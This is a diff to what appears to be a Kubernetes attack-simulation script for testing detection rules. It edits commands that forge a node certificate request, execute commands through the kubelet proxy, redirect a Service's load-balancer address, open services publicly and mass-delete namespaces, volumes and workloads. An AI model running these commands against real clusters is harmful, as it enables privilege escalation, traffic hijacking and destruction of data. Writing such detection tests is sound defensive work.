@@ -124,7 +124,7 @@ kind: CertificateSigningRequest
 metadata: {name: masters-of-another-signer}
 spec: {request: $(cat csr), signerName: example.com/signer, usages: [client auth]}
 YAML
-#: csr-node | D109 D110 D112 | mallory
+#: csr-node | D109 D112 | mallory
 openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -subj /O=system:nodes/CN=system:node:worker-9 2>/dev/null | base64 -w0 >csr
 kubectl create -f - <<YAML
 apiVersion: certificates.k8s.io/v1
@@ -132,7 +132,6 @@ kind: CertificateSigningRequest
 metadata: {name: worker-9}
 spec: {request: $(cat csr), signerName: kubernetes.io/kube-apiserver-client-kubelet, usages: [client auth, digital signature]}
 YAML
-kubectl certificate approve worker-9
 
 # --- commands in containers ---
 
@@ -549,7 +548,8 @@ pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.
 kubectl create --raw "/api/v1/nodes/worker-1/proxy/run/monitoring/$pod/node-exporter?cmd=id" -f /dev/null
 #: kubelet-exec | D128 D129 | mallory
 pod=$(kubectl get pods -n monitoring -l app=node-exporter --field-selector spec.nodeName=worker-1 -o 'jsonpath={.items[0].metadata.name}')
-kubectl get --raw "/api/v1/nodes/https:worker-1:10250/proxy/exec/monitoring/$pod/node-exporter?command=id&output=1" || true
+curl -s -o /dev/null -m 2 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: bm90IGEgc2VjcmV0IGtleQ==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' \
+  "$SERVER/api/v1/nodes/https:worker-1:10250/proxy/exec/monitoring/$pod/node-exporter?command=id&output=1" || true
 #: kubelet-pods | D128 | mallory
 kubectl get --raw /api/v1/nodes/worker-1/proxy/pods >/dev/null
 #: kubelet-debug | D131 | mallory
@@ -621,12 +621,12 @@ kind: Service
 metadata: {name: resolver, namespace: shop}
 spec: {selector: {app: cart}, ports: [{port: 443}], externalIPs: [198.51.100.53]}
 YAML
-#: load-balancer-address | D013 | mallory
-kubectl patch service cart -n shop --subresource=status --type=merge -p '{"status":{"loadBalancer":{"ingress":[{"ip":"198.51.100.53"}]}}}' || true
 #: node-port | D011 | mallory
 kubectl expose deployment cart -n shop --name=open --type=NodePort --port=8080
 #: load-balancer | D012 | mallory
 kubectl create service loadbalancer wide-open -n shop --tcp=80:8080
+#: load-balancer-address | D013 | mallory
+kubectl patch service wide-open -n shop --subresource=status --type=merge -p '{"status":{"loadBalancer":{"ingress":[{"ip":"198.51.100.53"}]}}}'
 #: dashboard-exposed | D010 | mallory
 kubectl create namespace kubernetes-dashboard
 kubectl create service loadbalancer kubernetes-dashboard -n kubernetes-dashboard --tcp=443:8443
@@ -699,7 +699,7 @@ kubectl delete pv --all --wait=false
 #: deployment-deleted | D148 | mallory
 kubectl delete deployment front -n shop --wait=false
 #: mass-deletion | D147 | mallory
-for number in $(seq 30); do echo "---"; echo "{apiVersion: v1, kind: ConfigMap, metadata: {name: page-$number, namespace: payments}}"; done | kubectl apply -f - >/dev/null
+for number in $(seq 30); do echo "---"; echo "{apiVersion: v1, kind: ConfigMap, metadata: {name: page-$number, namespace: payments}}"; done | kubectl create -f - >/dev/null
 kubectl delete configmaps,deployments,services,statefulsets,jobs --all -n payments --wait=false >/dev/null
 #: namespace-deleted | D145 | mallory
 kubectl delete namespace payments --wait=false
